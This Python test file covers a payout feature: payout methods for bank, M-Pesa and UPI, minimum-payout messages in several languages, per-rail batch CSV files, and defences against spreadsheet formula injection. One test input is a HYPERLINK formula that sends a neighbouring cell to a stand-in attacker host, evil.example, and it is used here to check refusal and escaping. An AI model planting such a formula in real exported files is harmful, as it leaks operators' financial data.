"""Payouts on the pages (issue 18 §7): a contributor adds where they are paid (a bank
account, an M-Pesa number, a UPI address), sees the smallest payout before asking, asks
for one to a method, and reads every payout with its state; the batch writes each into
its rail's file for the operator (bank transfers, M-Pesa B2C requests, UPI payouts)."""

from __future__ import annotations

import csv
import html
import json
import re
from decimal import Decimal

import pytest

from datatrust.adapters.payments import FakePayoutProvider, RailBatchFiles, csv_cell
from datatrust.domain.errors import InvalidInput, Problem
from datatrust.domain.money import Money
from datatrust.domain.payout_methods import PayoutMethod, PayoutRail, check_details
from datatrust.i18n import format_money, render_problem, translator
from datatrust.services import money
from datatrust.services.money import payouts
from page_text import not_in_words, untranslated_english, visible
from support import PASSWORD, add_payout_method, signed_in, stored_campaign

LANGS = ("en", "hi", "zu")
BANK_ACCOUNT = {
    "rail": "bank_transfer",
    "account_holder": "Thandi Nkosi",
    "account_number": "GB82 WEST 1234 5698 7654 32",
    "bank_code": "westgb2l",
}


@pytest.fixture
def earned(services, people):
    """The owner has earned USD 30.00 for two accepted items."""
    from datatrust.adapters.payments import FakeCardRail

    buyer = people["buyer"].actor
    campaign = stored_campaign(services, buyer)
    with services.uow() as uow:
        money.fund_campaign_escrow(uow, FakeCardRail(), buyer, campaign.id, Money(6000, "USD"), "k")
    with services.uow() as uow:
        for item_id in (101, 102):
            money.pay_accepted_item(
                uow, campaign.id, people["owner"].actor.user_id, Money(1500, "USD"), item_id
            )
        uow.commit()
    return people["owner"]


def add_method(client, owner, *, aged: bool = True, **form) -> None:
    """Add a method on the page as its owner does: signed in with the password, which the
    form asks for again. ``aged``: then date it a holding period back (see
    ``support.add_payout_method``). The client is signed out again afterwards."""
    session = signed_in(client, owner)
    response = client.post(
        "/my/payout-methods",
        data={**form, "current_password": PASSWORD},
        headers=session,
        follow_redirects=False,
    )
    client.cookies.clear()
    assert response.status_code == 303, response.text
    if aged:
        services = client.app.state.services
        with services.uow() as uow:
            for method in uow.all(PayoutMethod, user_id=owner.actor.user_id):
                method.created_at -= services.policy.payout_method_hold
            uow.commit()


def methods_of(services, owner) -> list[PayoutMethod]:
    with services.uow() as uow:
        return payouts.payout_methods(uow, owner.actor)


@pytest.mark.parametrize("lang", LANGS)
def test_the_smallest_payout_is_shown_before_asking_in_the_readers_language(
    client, services, earned, lang
):
    page = client.get(f"/my/earnings?lang={lang}", headers=earned.headers)
    minimum = services.policy.minimum_payout
    _ = translator(lang).gettext
    assert _("The smallest payout is %(amount)s.") % {"amount": format_money(minimum, lang)} in (
        page.text
    )
    # No method yet: the page says so and links to adding one, instead of a form.
    assert _("No payout method yet. Add one to ask for a payout.") in page.text
    assert 'href="/my/payout-methods"' in page.text and 'name="amount"' not in page.text


def test_a_bank_account_is_added_sealed_and_shown_masked(client, services, earned):
    add_method(client, earned, **BANK_ACCOUNT)
    (method,) = methods_of(services, earned)
    assert method.rail is PayoutRail.BANK_TRANSFER and method.label == "···· 5432"
    assert "7654" not in method.details_sealed and "Thandi" not in method.details_sealed
    with services.uow() as uow:
        details = json.loads(services.storage.open_text(uow, method.user_id, method.details_sealed))
    assert details["account_number"] == "GB82WEST12345698765432"
    assert details["bank_code"] == "WESTGB2L"
    page = client.get("/my/payout-methods?lang=en", headers=earned.headers)
    assert "···· 5432" in page.text and "GB82" not in page.text


@pytest.mark.parametrize(
    ("rail", "typed", "field", "msgid"),
    [
        (
            PayoutRail.BANK_TRANSFER,
            {"account_holder": "A", "account_number": "GB82WEST12345698765433", "bank_code": "X1"},
            "account_number",
            "this IBAN's check digits are wrong",
        ),
        (
            PayoutRail.MPESA,
            {"phone": "0612 345"},
            "phone",
            "write a Kenyan mobile number such as 0712 345 678",
        ),
        (
            PayoutRail.UPI,
            {"account_holder": "", "vpa": "asha"},
            "vpa",
            "write a UPI address such as name@bank",
        ),
    ],
)
def test_each_rail_names_what_is_wrong_with_its_details(rail, typed, field, msgid):
    _details, problems = check_details(rail, typed)
    assert f"{field}: {msgid}" in [str(p) for p in problems]


@pytest.mark.parametrize("lang", ["hi", "zu"])
def test_a_wrong_mpesa_number_is_refused_next_to_its_field_in_the_readers_language(
    client, services, earned, lang
):
    response = client.post(
        f"/my/payout-methods?lang={lang}",
        data={"rail": "mpesa", "phone": "12345", "current_password": PASSWORD},
        headers=signed_in(client, earned),
    )
    assert response.status_code == 422
    said = translator(lang).gettext("write a Kenyan mobile number such as 0712 345 678")
    assert said in response.text and 'id="e-mpesa-phone-1"' in response.text
    assert methods_of(services, earned) == []


def test_a_payout_below_the_minimum_or_above_the_balance_is_refused_with_the_services_figures(
    client, services, earned
):
    add_method(
        client,
        earned,
        rail="bank_transfer",
        account_holder="T N",
        account_number="12345678",
        bank_code="021000021",
    )
    (method,) = methods_of(services, earned)
    form = {"method": str(method.id), "currency": "USD", "idempotency_key": "a"}
    low = client.post(
        "/my/earnings/payout?lang=hi", data={**form, "amount": "1.00"}, headers=earned.headers
    )
    assert low.status_code == 422
    minimum = format_money(services.policy.minimum_payout, "hi")
    assert (
        translator("hi").gettext("The smallest payout is %(amount)s.") % {"amount": minimum}
        in low.text
    )
    high = client.post(
        "/my/earnings/payout?lang=zu",
        data={**form, "amount": "99.00", "idempotency_key": "b"},
        headers=earned.headers,
    )
    assert high.status_code == 422
    available = format_money(Money(3000, "USD"), "zu")
    assert available in high.text and "you asked for" not in high.text


def earn(services, people, *amounts: Money) -> None:
    """The owner is paid ``amounts`` for accepted items, each from a campaign in its
    currency funded by the buyer."""
    from datatrust.adapters.payments import FakeCardRail

    buyer = people["buyer"].actor
    for n, amount in enumerate(amounts):
        campaign = stored_campaign(services, buyer, currency=amount.currency)
        with services.uow() as uow:
            money.fund_campaign_escrow(
                uow, FakeCardRail(), buyer, campaign.id, Money(6000, amount.currency), f"f{n}"
            )
        with services.uow() as uow:
            money.pay_accepted_item(
                uow, campaign.id, people["owner"].actor.user_id, amount, 300 + n
            )
            uow.commit()


@pytest.mark.parametrize("lang", LANGS)
def test_a_balance_below_the_smallest_payout_is_said_with_its_figures_instead_of_the_form(
    client, services, people, lang
):
    """$3.20 available and a $10.00 minimum: the page showed the form, and the payout asked
    on it was refused. It says, in the reader's words, how much is available and the
    smallest payout, and shows no form; a form sent anyway (stale, or typed by hand) is
    still refused in words, with the service's figure, and sets nothing aside."""
    owner = people["owner"]
    earn(services, people, Money(320, "USD"))
    add_method(client, owner, **BANK_ACCOUNT)
    page = client.get(f"/my/earnings?lang={lang}", headers=owner.headers)
    _ = translator(lang).gettext
    minimum = services.policy.minimum_payout
    assert minimum == Money(1000, "USD")
    said = _("You have %(available)s available; the smallest payout is %(smallest)s.") % {
        "available": format_money(Money(320, "USD"), lang),
        "smallest": format_money(minimum, lang),
    }
    assert html.escape(said, quote=False) in page.text
    assert (
        _("A payout can be asked for once an available balance reaches the smallest payout.")
        in page.text
    )
    assert 'name="amount"' not in page.text and 'name="currency"' not in page.text
    if lang != "en":  # no code, no English word left on the page
        assert not_in_words(visible(page.text), untranslated_english(lang)) == []

    method = methods_of(services, owner)[0]
    stale = client.post(
        f"/my/earnings/payout?lang={lang}",
        data={
            "method": str(method.id),
            "currency": "USD",
            "amount": "3.20",
            "idempotency_key": "x",
        },
        headers=owner.headers,
    )
    assert stale.status_code == 422
    refusal = _("The smallest payout is %(amount)s.") % {"amount": format_money(minimum, lang)}
    assert html.escape(refusal, quote=False) in stale.text
    assert 'role="alert"' in stale.text and 'name="amount"' not in stale.text
    with services.uow() as uow:
        assert payouts.list_payouts(uow, owner.actor) == []


def test_the_currency_choice_offers_only_the_currencies_a_payout_can_be_asked_in(
    client, services, people
):
    """USD 3.20 is below the $10.00 minimum; EUR 20.00 (no operator rate to convert the
    minimum: any amount above zero, ``minimum_payout``) can be paid out. The form offers
    EUR alone, and the page says why USD is not offered."""
    owner = people["owner"]
    earn(services, people, Money(320, "USD"), Money(2000, "EUR"))
    add_method(client, owner, **BANK_ACCOUNT)
    page = client.get("/my/earnings?lang=en", headers=owner.headers).text
    select = page.split('<select id="f-currency" name="currency">', 1)[1].split("</select>", 1)[0]
    assert select.count("<option") == 1 and 'value="EUR"' in select
    assert "You have $3.20 available; the smallest payout is $10.00." in page
    assert "The smallest payout is €0.01." in page


@pytest.mark.parametrize("least", [3001, 3000])
def test_the_page_offers_a_payout_exactly_when_the_service_would_pay_the_whole_balance(
    services, earned, least
):
    """The page's decision and the refusal are one test (``payouts.can_ask_payout``,
    ``payout_refusal``): with $30.00 available, a $30.01 minimum offers nothing and
    refuses the whole balance; a $30.00 one offers USD and pays it."""
    minimum = Money(least, "USD")
    hold = services.policy.payout_method_hold
    with services.uow() as uow:
        offered = payouts.payout_page(uow, earned.actor, minimum, hold)["payable"]
    with services.uow() as uow:
        try:
            money.request_payout(uow, earned.actor, Money(3000, "USD"), "all", minimum=minimum)
            paid = True
        except InvalidInput as refused:
            assert [p.code for p in refused.problems] == ["payout.below_minimum"]
            paid = False
    assert (offered == ["USD"]) is paid is (least <= 3000)


def test_mpesa_pays_whole_shillings_only_and_only_in_shillings(services, earned):
    details, problems = check_details(PayoutRail.MPESA, {"phone": "+254 712 345 678"})
    assert problems == [] and details["phone"] == "254712345678"
    method = add_payout_method(services, earned.actor, "mpesa", details)
    with services.uow() as uow, pytest.raises(Exception) as refused:
        payouts.request_payout_to(
            uow,
            earned.actor,
            Money(1500, "USD"),
            "k1",
            method_id=method.id,
            minimum=Money(1000, "USD"),
            hold=services.policy.payout_method_hold,
        )
    (problem,) = refused.value.problems
    assert (problem.field, problem.code, dict(problem.params)) == (
        "method",
        "payout_method.currency",
        {"currency": "KES"},
    )
    assert "method: this method pays only in KES, its own country's currency" in str(
        refused.value.details
    )


def test_a_payout_to_a_method_goes_into_that_rails_batch_file_once_and_shows_paid(
    client, services, earned, tmp_path
):
    add_method(client, earned, rail="upi", account_holder="Asha Devi", vpa="Asha.Devi@okbank")
    add_method(
        client,
        earned,
        rail="bank_transfer",
        account_holder="Thandi Nkosi",
        account_number="12345678",
        bank_code="021000021",
    )
    bank = next(m for m in methods_of(services, earned) if m.rail is PayoutRail.BANK_TRANSFER)
    page = client.get("/my/earnings?lang=en", headers=earned.headers)
    assert 'name="method"' in page.text and "···· 5678" in page.text
    asked = client.post(
        "/my/earnings/payout",
        data={
            "method": str(bank.id),
            "amount": "12.00",
            "currency": "USD",
            "idempotency_key": "first",
        },
        headers=earned.headers,
        follow_redirects=False,
    )
    assert asked.status_code == 303
    waiting = client.get("/my/earnings?lang=en", headers=earned.headers).text
    assert "Asked for: it goes out with the next payout batch." in waiting

    files = RailBatchFiles(tmp_path / "payouts")
    for _ in range(2):  # a second batch finds nothing to send
        money.run_payout_batch(
            services.uow,
            files,
            destinations=payouts.destination_for(
                services.storage, services.policy.payout_method_hold
            ),
        )
    (batch,) = (tmp_path / "payouts" / "bank_transfer").glob("bank-transfers-*.csv")
    rows = list(csv.DictReader(batch.open()))
    assert len(rows) == 1
    assert rows[0]["account_holder"] == "Thandi Nkosi" and rows[0]["amount"] == "12.00"
    assert rows[0]["account_number_or_iban"] == "12345678" and rows[0]["bank_code"] == "021000021"
    assert not list((tmp_path / "payouts" / "upi").glob("*.csv"))
    paid = client.get("/my/earnings?lang=hi", headers=earned.headers).text
    assert (
        translator("hi").gettext("Paid.") in paid and format_money(Money(1200, "USD"), "hi") in paid
    )


def test_mpesa_and_upi_payouts_are_written_as_their_rails_take_them(services, people, tmp_path):
    owner = people["owner"]
    files = RailBatchFiles(tmp_path)
    from datatrust.domain.payout_methods import PayoutDestination
    from datatrust.services.money import PayoutInstruction

    mpesa = PayoutDestination(PayoutRail.MPESA, {"phone": "254712345678"})
    upi = PayoutDestination(PayoutRail.UPI, {"vpa": "asha@okbank", "account_holder": "Asha"})
    files.send(PayoutInstruction("payout:7", 7, owner.actor.user_id, Money(150000, "KES"), mpesa))
    files.send(PayoutInstruction("payout:8", 8, owner.actor.user_id, Money(123456, "INR"), upi))
    files.send(PayoutInstruction("payout:7", 7, owner.actor.user_id, Money(150000, "KES"), mpesa))
    (m,) = csv.DictReader(next((tmp_path / "mpesa").glob("mpesa-b2c-*.csv")).open())
    assert (m["CommandID"], m["PartyB"], m["Amount"]) == ("BusinessPayment", "254712345678", "1500")
    (u,) = csv.DictReader(next((tmp_path / "upi").glob("upi-*.csv")).open())
    assert (u["beneficiary_vpa"], u["amount"], u["amount_paise"]) == (
        "asha@okbank",
        "1234.56",
        "123456",
    )


def test_a_payout_asked_for_without_a_method_goes_to_the_persons_method_for_its_currency(
    services, earned
):
    add_payout_method(
        services,
        earned.actor,
        "bank_transfer",
        {"account_holder": "T", "account_number": "99998888", "bank_code": "ABCD1234"},
    )
    with services.uow() as uow:
        money.request_payout(
            uow, earned.actor, Money(1000, "USD"), "api", minimum=Money(1000, "USD")
        )
    fake = FakePayoutProvider()
    money.run_payout_batch(
        services.uow,
        fake,
        destinations=payouts.destination_for(services.storage, services.policy.payout_method_hold),
    )
    (sent,) = fake.instructions
    assert sent.destination is not None
    assert sent.destination.details["account_number"] == "99998888"


def test_someone_elses_payout_method_is_not_found(client, services, earned, people):
    theirs = add_payout_method(
        services, people["other"].actor, "upi", {"account_holder": "O", "vpa": "other@bank"}
    )
    response = client.post(
        "/my/earnings/payout",
        data={
            "method": str(theirs.id),
            "amount": "12.00",
            "currency": "USD",
            "idempotency_key": "x",
        },
        headers=earned.headers,
    )
    assert response.status_code == 422 and "Choose where to be paid." in response.text
    removed = client.post(
        f"/my/payout-methods/{theirs.id}/remove", headers=earned.headers, follow_redirects=False
    )
    assert removed.status_code == 404
    assert len(methods_of(services, people["other"])) == 1


def test_the_payout_currency_is_chosen_from_the_balances_never_typed(client, earned):
    """Issue 18: the currency was a free-text box; it is a choice of the currencies the
    person holds, each by its name in the reader's language."""
    add_method(client, earned, **BANK_ACCOUNT)
    page = client.get("/my/earnings?lang=hi", headers=earned.headers).text
    assert '<input id="f-currency"' not in page and 'name="currency">' not in page.replace(
        '<select id="f-currency" name="currency">', ""
    )
    select = page.split('<select id="f-currency" name="currency">', 1)[1].split("</select>", 1)[0]
    assert select.count("<option") == 1 and 'value="USD"' in select and "यूएस डॉलर" in select


def test_a_long_statement_is_shown_a_page_at_a_time_with_every_line_once(
    client, services, people, earned
):
    """The earnings page listed every movement of the ledger on one page: a contributor
    with hundreds of items paid got a page of hundreds of cards. The statement now pages
    (newest first, ``listing.PAGE_SIZE`` lines a page), and the pages together show each
    line the ledger holds exactly once."""
    from collections import Counter

    from datatrust.adapters.payments import FakeCardRail
    from datatrust.services.listing import PAGE_SIZE

    buyer = people["buyer"].actor
    campaign = stored_campaign(services, buyer)
    with services.uow() as uow:
        money.fund_campaign_escrow(uow, FakeCardRail(), buyer, campaign.id, Money(5000, "USD"), "l")
    paid = [Money(50 + n, "USD") for n in range(2 * PAGE_SIZE + 3)]  # each figure its own
    with services.uow() as uow:
        for n, amount in enumerate(paid):
            money.pay_accepted_item(uow, campaign.id, earned.actor.user_id, amount, 200 + n)
        uow.commit()
    expected = Counter(
        format_money(m, "en") for m in [*paid, Money(1500, "USD"), Money(1500, "USD")]
    )

    shown: Counter[str] = Counter()
    for n, (count, older) in enumerate([(PAGE_SIZE, True), (PAGE_SIZE, True), (5, False)], 1):
        page = client.get(f"/my/earnings?lang=en&n={n}", headers=earned.headers).text
        statement = page.split("<h2>Statement</h2>", 1)[1]
        figures = re.findall(r"<strong[^>]*>([^<]+)</strong>", statement)
        assert len(figures) == count, (n, figures)
        assert f"Page {n} of 3" in statement
        assert ('href="/my/earnings?n=' + str(n + 1) + '"' in statement) is older
        shown.update(figures)
    assert shown == expected
    assert sum(shown.values()) == len(paid) + 2
    past_the_end = client.get("/my/earnings?lang=en&n=9", headers=earned.headers).text
    assert "Page 3 of 3" in past_the_end


@pytest.mark.parametrize("lang", LANGS)
def test_a_payout_asked_with_no_amount_says_to_write_one_in_the_readers_words(
    client, services, earned, lang
):
    """An empty amount was answered "'' is not a decimal amount like '12.50'" (in Hindi
    "'' '12.50' जैसी दशमलव राशि नहीं है"): two quotes around nothing. It asks for an amount."""
    add_method(
        client,
        earned,
        rail="bank_transfer",
        account_holder="T N",
        account_number="12345678",
        bank_code="021000021",
    )
    (method,) = methods_of(services, earned)
    form = {"method": str(method.id), "currency": "USD", "idempotency_key": "e", "amount": " "}
    page = client.post(f"/my/earnings/payout?lang={lang}", data=form, headers=earned.headers)
    assert page.status_code == 422
    assert translator(lang).gettext("Write an amount such as 12.50.") in page.text
    assert "''" not in page.text and "&#39;&#39;" not in page.text


# Outside review: a name typed as a formula came out live in the operator's batch file.
FORMULA_NAME = '=HYPERLINK("https://evil.example/?"&B2,"Ada")'


@pytest.mark.parametrize("lang", LANGS)
def test_a_name_a_spreadsheet_would_run_as_a_formula_is_refused_in_the_readers_language(
    client, services, earned, lang
):
    response = client.post(
        f"/my/payout-methods?lang={lang}",
        data={
            "rail": "upi",
            "account_holder": FORMULA_NAME,
            "vpa": "ada@okaxis",
            "current_password": PASSWORD,
        },
        headers=signed_in(client, earned),
    )
    assert response.status_code == 422
    said = render_problem(Problem("account_holder", "payout_method.holder_formula"), lang)
    assert html.escape(said) in response.text
    assert methods_of(services, earned) == []


@pytest.mark.parametrize("start", ["=", "+", "-", "@", " \t=", "\r\n@"])
def test_every_start_a_spreadsheet_reads_as_a_formula_is_refused_by_name(start):
    _details, problems = check_details(
        PayoutRail.BANK_TRANSFER,
        {"account_holder": start + "1+1", "account_number": "12345678", "bank_code": "ABCD1234"},
    )
    assert [(p.field, p.code) for p in problems] == [
        ("account_holder", "payout_method.holder_formula")
    ]
    ok, none = check_details(
        PayoutRail.UPI, {"account_holder": "Ada = Lovelace", "vpa": "ada@okaxis"}
    )
    assert none == [] and ok["account_holder"] == "Ada = Lovelace"


def test_a_batch_file_cell_that_starts_like_a_formula_is_written_as_text(
    services, people, tmp_path
):
    """Methods added before names were checked still reach the batch: every CSV the
    operator opens escapes such a cell (a leading apostrophe), and amounts stay numbers."""
    from datatrust.domain.payout_methods import PayoutDestination
    from datatrust.services.money import PayoutInstruction

    owner = people["owner"].actor.user_id
    files = RailBatchFiles(tmp_path)
    upi = PayoutDestination(PayoutRail.UPI, {"vpa": "ada@okaxis", "account_holder": FORMULA_NAME})
    bank = PayoutDestination(
        PayoutRail.BANK_TRANSFER,
        {"account_holder": "+1-2", "account_number": "12345678", "bank_code": "ABCD1234"},
    )
    files.send(PayoutInstruction("payout:8", 8, owner, Money(123456, "INR"), upi))
    files.send(PayoutInstruction("payout:9", 9, owner, Money(1200, "USD"), bank))
    (u,) = csv.DictReader(next((tmp_path / "upi").glob("upi-*.csv")).open())
    assert u["beneficiary_name"] == "'" + FORMULA_NAME and u["amount"] == "1234.56"
    (b,) = csv.DictReader(next((tmp_path / "bank_transfer").glob("bank-transfers-*.csv")).open())
    assert b["account_holder"] == "'+1-2" and b["amount_minor"] == "1200"
    for cell in ("=1", "+1", "-1", "@A1", "\t=1", "\r=1"):
        assert csv_cell(cell) == "'" + cell
    assert [csv_cell(v) for v in ("Ada", -5, Decimal("-1.50"))] == ["Ada", -5, Decimal("-1.50")]
